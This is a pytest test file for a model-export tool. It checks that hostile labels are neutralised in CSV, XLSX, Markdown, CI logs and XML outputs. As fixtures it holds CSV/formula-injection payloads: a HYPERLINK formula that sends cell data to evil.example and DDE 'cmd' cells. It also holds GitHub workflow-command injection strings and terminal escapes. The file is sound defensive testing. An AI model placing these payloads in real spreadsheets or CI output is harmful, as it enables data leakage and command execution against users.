"""Hostile labels on their way out: spreadsheets, pull-request comments, CI logs, XML files.

One model copy carries the labels an attacker would write: a formula (``=HYPERLINK``), line
breaks followed by a workflow command (``::error``), a Markdown heading and an @mention,
control characters and a terminal escape. Every output that shows labels must keep them as
inert text, and the spreadsheets must give them back unchanged.
"""

from __future__ import annotations

import json
import shutil
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from rdflib.compare import isomorphic

from samhandling.build import load_model
from samhandling.export.tables import export_tables
from samhandling.safetext import ci_safe_line, one_line, xml_safe
from samhandling.spreadsheet import escape_cell, unescape_cell

from .support import MINI, run_cli

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
#: A label with everything at once; Journal has validation warnings, so reports show it.
HOSTILE = "Journal\x01\x1b[31m\n::error file=x::pwned\n### Heading @octocat\r\n##[error]old"
LABELS = {
    ("Plan", "label_nb"): FORMULA,
    ("Plan", "label_en"): "+1+cmd|' /C calc'!A0",
    ("Oppsummering", "label_nb"): "@SUM(1+1)*cmd|' /C calc'!A0",
    ("Summary", "label_en"): "-2+3",
    ("Journal", "label_nb"): HOSTILE,
    ("Journal", "label_en"): HOSTILE,
}


def _model(tmp_path_factory: pytest.TempPathFactory, labels: dict[tuple[str, str], str]) -> Path:
    target = tmp_path_factory.mktemp("hostile") / "model"
    shutil.copytree(MINI, target)
    path = target / "tjenester.yaml"
    text = path.read_text(encoding="utf-8")
    for (old, column), new in labels.items():
        line = f"  {column}: {old}\n"
        assert line in text
        text = text.replace(line, f"  {column}: {json.dumps(new)}\n", 1)
    path.write_text(text, encoding="utf-8")
    return target


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The mini model with the labels above (written as YAML escapes)."""
    return _model(tmp_path_factory, LABELS)


@pytest.fixture(scope="module")
def formulas(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Only the formula labels: text a worksheet can hold."""
    return _model(tmp_path_factory, {k: v for k, v in LABELS.items() if v != HOSTILE})


# -- spreadsheets: text, not formulas, and the exact value back --------------------------------

@pytest.mark.parametrize("value", [FORMULA, "+1", "-1", "@x", "\tx", "\rx", "'=x", "''+x",
                                   "'plain", "''", "'", "", "plain", "a=b", "=", "'\t"])
def test_the_csv_escape_reads_back_unchanged(value: str) -> None:
    escaped = escape_cell(value)
    assert unescape_cell(escaped) == value
    assert not escaped or escaped[0] not in "=+-@\t\r"


def test_csv_export_writes_formulas_as_text_and_reads_them_back(hostile: Path,
                                                                 tmp_path: Path) -> None:
    graph = load_model(hostile).graph
    export_tables(graph, tmp_path / "csv", "csv")
    rows = (tmp_path / "csv" / "tjenester.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in rows and "'+1+cmd" in rows and "'@SUM" in rows and "'-2+3" in rows
    for line in rows.splitlines():
        for cell in line.split(","):
            assert not cell.lstrip('"').startswith(("=", "+", "@", "-")), line
    assert isomorphic(load_model(tmp_path / "csv").graph, graph)


def test_xlsx_export_writes_formulas_as_text_and_reads_them_back(formulas: Path,
                                                                  tmp_path: Path) -> None:
    from openpyxl import load_workbook

    graph = load_model(formulas).graph
    export_tables(graph, tmp_path / "xlsx", "xlsx")
    workbook = load_workbook(tmp_path / "xlsx" / "model.xlsx")  # formulas as written
    cells = {c.value: c for row in workbook["tjenester"].iter_rows() for c in row}
    assert cells[FORMULA].data_type == "s", "the label was written as a live formula"
    assert cells[FORMULA].quotePrefix
    assert not [c for c in cells.values() if c.data_type == "f"]
    assert isomorphic(load_model(tmp_path / "xlsx").graph, graph)  # not read back empty


def test_xlsx_export_refuses_a_control_character_and_writes_nothing(hostile: Path,
                                                                    tmp_path: Path) -> None:
    out = tmp_path / "tables"
    result = run_cli("export-tables", str(hostile), "--format", "xlsx", "-o", str(out))
    assert result.exit_code == 2
    assert result.stderr == ("error: tjenester/journal: label_nb holds control character U+0001,"
                             " which XLSX cannot store; export as csv or yaml, or fix the "
                             "source\n")
    assert list(tmp_path.iterdir()) == []


# -- what people and CI read -------------------------------------------------------------------

def test_markdown_diff_cannot_add_headings_mentions_or_rows(hostile: Path) -> None:
    result = run_cli("diff", str(MINI), str(hostile), "--format", "md")
    assert result.exit_code == 1, result.stderr
    lines = result.stdout.splitlines()
    headings = [line for line in lines if line.lstrip().startswith("#")]
    assert headings == ["### Endringer i modellen: 0 lagt til, 0 fjernet, 5 endret",
                        "#### Endret (5)"]
    assert "@octocat" not in result.stdout and "@&#8203;octocat" in result.stdout
    assert not any(line.lstrip().startswith("::") for line in lines)
    assert not any(ch in result.stdout for ch in "\x01\x1b\r")
    for line in lines:  # every line is ours: table rows, entity lines, blank, headings
        assert line == "" or line.startswith(("|", "**", "#", "`")), line


def test_text_reports_never_print_a_workflow_command(hostile: Path) -> None:
    result = run_cli("validate", str(hostile), "--lang", "en")
    assert result.exit_code == 0, result.stderr
    assert "Journal\\x01\\x1b[31m\\n::error file=x::pwned\\n" in result.stdout  # one line
    for output in (result.stdout, run_cli("diff", str(MINI), str(hostile)).stdout):
        for line in output.splitlines():
            assert not line.lstrip().startswith("::"), line
            assert "##[" not in line and "\x1b" not in line


def test_github_format_escapes_percent_cr_and_lf(hostile: Path) -> None:
    result = run_cli("validate", str(hostile), "--lang", "en", "--format", "github",
                     "--annotate-level", "warning")
    assert result.exit_code == 0, result.stderr
    lines = result.stdout.splitlines()
    commands = [line for line in lines if line.startswith("::")]
    assert len(commands) == len(lines) - 1  # every result one command, then the summary
    journal = [line for line in commands if "Journal" in line]
    assert journal and all("%0A::error file=x::pwned%0A" in line for line in journal)
    assert all("%0D%0A" in line for line in journal)


def test_junit_report_is_well_formed_xml(hostile: Path, tmp_path: Path) -> None:
    out = tmp_path / "report.xml"
    result = run_cli("validate", str(hostile), "--lang", "en", "--format", "junit", "-o",
                     str(out))
    assert result.exit_code == 0, result.stderr
    root = ET.parse(out).getroot()
    names = [case.get("name") or "" for case in root.iter("testcase")]
    assert any(name.startswith("Journal\ufffd\ufffd[31m\n::error") for name in names)


def test_graphml_is_well_formed_xml(hostile: Path) -> None:
    result = run_cli("graph", "services", str(hostile), "--format", "graphml")
    assert result.exit_code == 0, result.stderr
    root = ET.fromstring(result.stdout.encode("utf-8"))
    assert "Journal\ufffd\ufffd[31m" in ET.tostring(root, encoding="unicode")


@pytest.mark.needs_dot
def test_svg_is_well_formed_xml(hostile: Path) -> None:
    result = run_cli("graph", "services", str(hostile), "--format", "svg")
    assert result.exit_code == 0, result.stderr
    ET.fromstring(result.stdout.encode("utf-8"))


def test_safe_text_helpers() -> None:
    assert xml_safe("a\x00b\x0bc\td\ne\rf\ud800") == "a\ufffdb\ufffdc\td\ne\rf\ufffd"
    assert one_line("a\nb\x1b\u2028") == "a\\nb\\x1b\\x2028"
    assert ci_safe_line("  ::error::x") == "  \\::error::x"
    assert ci_safe_line("ok ##[error] x") == "ok ##\\[error] x"
    assert ci_safe_line("file.yaml:3: a :: b") == "file.yaml:3: a :: b"


def test_mermaid_keeps_each_label_on_its_line(hostile: Path) -> None:
    result = run_cli("graph", "services", str(hostile), "--format", "mermaid")
    assert result.exit_code == 0, result.stderr
    lines = result.stdout.splitlines()
    assert lines[:1] == ["---"] and lines[2:4] == ["---", "flowchart TB"]
    assert all(line.startswith("  ") for line in lines[4:]), "a label broke onto its own line"
    assert any("Journal\ufffd\ufffd[31m ::error file=x::pwned ### Heading" in line
               for line in lines)
